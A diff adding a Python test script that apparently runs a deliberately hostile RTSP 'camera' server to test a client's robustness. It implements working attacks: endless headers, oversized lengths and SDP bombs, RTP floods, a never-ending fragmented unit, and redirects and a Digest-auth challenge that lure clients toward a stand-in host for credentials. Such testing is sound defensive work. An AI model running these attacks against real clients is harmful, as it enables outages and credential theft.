@@ -1,0 +1,200 @@
+#!/usr/bin/env python3
+# SPDX-FileCopyrightText: 2026 The Cordon authors
+# SPDX-License-Identifier: Apache-2.0
+"""Cameras that attack whoever calls them: hostile_camera.py ADDRESS ATTACK plays one attack at that address, port 554.
+
+Prints "ready" once it listens. Each connection is attacked anew.
+"""
+
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+PORT = 554
+ELSEWHERE = "10.77.200.200"  # nobody's address: a packet to it is a client that was led astray
+CHUNK = 65536
+
+
+def read_request(connection):
+    """The next request's method and CSeq; none at the end of the connection."""
+    head = b""
+    while b"\r\n\r\n" not in head:
+        data = connection.recv(4096)
+        if not data:
+            return None, "0"
+        head = head[-8192:] + data
+    lines = head.decode("latin-1").split("\r\n")
+    sequence = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("cseq:")), "0")
+    return lines[0].split(" ")[0], sequence
+
+
+def reply(sequence, status="200 OK", headers=(), body=b""):
+    lines = [f"RTSP/1.0 {status}", f"CSeq: {sequence}", *headers]
+    if body:
+        lines.append(f"Content-Length: {len(body)}")
+    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body
+
+
+def session_description(video="m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=control:track1\r\n"):
+    return f"v=0\r\no=- 1 1 IN IP4 {ELSEWHERE}\r\ns=x\r\nc=IN IP4 {ELSEWHERE}\r\nt=0 0\r\na=control:*\r\n{video}".encode()
+
+
+def play_until_playing(connection, description=None):
+    """An ordinary camera, up to and with the reply to PLAY."""
+    while True:
+        method, sequence = read_request(connection)
+        if method is None:
+            return False
+        if method == "DESCRIBE":
+            connection.sendall(reply(sequence, headers=["Content-Type: application/sdp"], body=description or session_description()))
+        elif method == "SETUP":
+            connection.sendall(reply(sequence, headers=["Session: 1", f"Transport: RTP/AVP/TCP;unicast;source={ELSEWHERE};interleaved=0-1"]))
+        else:
+            connection.sendall(reply(sequence, headers=["Session: 1", f"RTP-Info: url=rtsp://{ELSEWHERE}/x;seq=1;rtptime=1"]))
+        if method == "PLAY":
+            return True
+
+
+def send_for_ever(connection, chunk):
+    while True:
+        connection.sendall(chunk)
+
+
+def endless_header(connection):
+    read_request(connection)
+    connection.sendall(b"RTSP/1.0 200 OK\r\nX: ")
+    send_for_ever(connection, b"A" * CHUNK)
+
+
+def endless_headers(connection):
+    read_request(connection)
+    connection.sendall(b"RTSP/1.0 200 OK\r\n")
+    send_for_ever(connection, b"X: y\r\n" * 8192)
+
+
+def huge_content_length(connection):
+    _, sequence = read_request(connection)
+    connection.sendall(reply(sequence))
+    _, sequence = read_request(connection)
+    connection.sendall(f"RTSP/1.0 200 OK\r\nCSeq: {sequence}\r\nContent-Length: 4294967296\r\n\r\n".encode())
+    send_for_ever(connection, b"v=0\r\n" * 8192)
+
+
+def describe_with(connection, description):
+    while True:
+        method, sequence = read_request(connection)
+        if method is None:
+            return
+        body = description if method == "DESCRIBE" else b""
+        connection.sendall(reply(sequence, headers=["Content-Type: application/sdp", "Session: 1"], body=body))
+
+
+def two_to_the_31_tracks(connection):
+    """As many tracks as its limits let through, numbered as if there were 2^31."""
+    tracks = "".join(f"m=video 0 RTP/AVP 96\r\na=control:track{2**31 + number}\r\n" for number in range(5000))
+    describe_with(connection, session_description(tracks))
+
+
+def description_bomb(connection):
+    video = "m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
+    attributes = "".join(f"a=fmtp:96 sprop-parameter-sets={'A' * 900}\r\n" for _ in range(270))
+    describe_with(connection, session_description(video + attributes))
+
+
+def one_byte_a_second(connection):
+    while True:
+        _, sequence = read_request(connection)
+        for byte in reply(sequence, headers=["Public: OPTIONS, DESCRIBE"]):
+            connection.sendall(bytes([byte]))
+            time.sleep(1)
+
+
+def interleaved_garbage(connection):
+    if play_until_playing(connection):
+        send_for_ever(connection, os.urandom(CHUNK))
+
+
+def rtp_flood(connection):
+    if not play_until_playing(connection):
+        return
+    payload = b"\x7c\x05" + os.urandom(1400)  # the middle of a fragmented unit (RFC 6184 5.8)
+    sequence = 0
+    while True:
+        packets = []
+        for _ in range(64):
+            sequence = (sequence + 1) & 0xFFFF
+            packets.append(struct.pack(">BBHBBHII", 0x24, 0, 12 + len(payload), 0x80, 96, sequence, sequence, 7) + payload)
+        connection.sendall(b"".join(packets))
+
+
+def unit_without_end(connection):
+    """One fragmented unit that begins and never ends."""
+    if not play_until_playing(connection):
+        return
+    sequence = 0
+    while True:
+        head = b"\x7c\x85" if sequence == 0 else b"\x7c\x05"
+        packet = struct.pack(">BBHII", 0x80, 96, sequence & 0xFFFF, 9, 7) + head + b"\x55" * 60000
+        connection.sendall(struct.pack(">BBH", 0x24, 0, len(packet)) + packet)
+        sequence += 1
+
+
+def redirect(connection):
+    while True:
+        method, sequence = read_request(connection)
+        if method is None:
+            return
+        connection.sendall(reply(sequence, "302 Found", [f"Location: rtsp://{ELSEWHERE}/stolen", "Connection: close"]))
+
+
+def phishing(connection):
+    """Asks for credentials in the name of another host, then sends whoever gave them there."""
+    while True:
+        method, sequence = read_request(connection)
+        if method is None:
+            return
+        challenge = f'Digest realm="rtsp://{ELSEWHERE}/ log in there", nonce="{time.monotonic_ns()}", domain="rtsp://{ELSEWHERE}/"'
+        connection.sendall(reply(sequence, "401 Unauthorized", [
+            f"WWW-Authenticate: {challenge}", f"Location: rtsp://{ELSEWHERE}/", f"Content-Base: rtsp://{ELSEWHERE}/"]))
+
+
+def elsewhere(connection):
+    """Names another host wherever it can, and plays nothing."""
+    while True:
+        method, sequence = read_request(connection)
+        if method is None:
+            return
+        headers = [f"Content-Base: rtsp://{ELSEWHERE}/a/", f"Content-Location: rtsp://{ELSEWHERE}/b", "Session: 1",
+                   f"Transport: RTP/AVP;unicast;source={ELSEWHERE};server_port=5000-5001;interleaved=0-1"]
+        body = session_description(f"m=video 0 RTP/AVP 96\r\nc=IN IP4 {ELSEWHERE}\r\na=rtpmap:96 H264/90000\r\n"
+                                   f"a=control:rtsp://user:word@{ELSEWHERE}/track1\r\n") if method == "DESCRIBE" else b""
+        connection.sendall(reply(sequence, headers=headers, body=body))
+
+
+ATTACKS = {attack.__name__: attack for attack in (
+    endless_header, endless_headers, huge_content_length, two_to_the_31_tracks, description_bomb, one_byte_a_second,
+    interleaved_garbage, rtp_flood, unit_without_end, redirect, phishing, elsewhere)}
+
+
+def serve(connection, attack):
+    with connection:
+        try:
+            attack(connection)
+        except OSError:
+            pass  # the client has had enough
+
+
+def main():
+    address, attack = sys.argv[1], ATTACKS[sys.argv[2]]
+    with socket.create_server((address, PORT)) as server:
+        print("ready", flush=True)
+        while True:
+            connection, _ = server.accept()
+            threading.Thread(target=serve, args=(connection, attack), daemon=True).start()
+
+
+if __name__ == "__main__":
+    main()
